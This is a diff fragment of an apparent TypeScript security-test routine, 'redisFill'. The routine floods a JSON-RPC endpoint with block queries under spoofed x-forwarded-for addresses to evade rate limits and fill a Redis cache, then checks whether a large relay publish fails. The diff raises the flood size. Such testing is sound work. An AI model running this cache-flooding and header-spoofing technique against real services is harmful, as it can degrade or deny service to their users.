@@ -76,7 +76,7 @@ export async function redisFill({ server, rpc, join }: Victim): Promise<Finding>
       body: `{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["0x${block.toString(16)}",true]}`,
       headers: { 'x-forwarded-for': `203.0.113.${block % 50}` },
     })
-  for (let block = 0x100000; block < 0x100000 + scale(120, 60); block++) await read(block)
+  for (let block = 0x100000; block < 0x100000 + scale(400, 240); block++) await read(block)
   await sleep(1_500)
   const client = await join('192.0.2.104')
   const { error } = await client.call('irn_publish', { ...large(aTopic()), ttl: 300 })
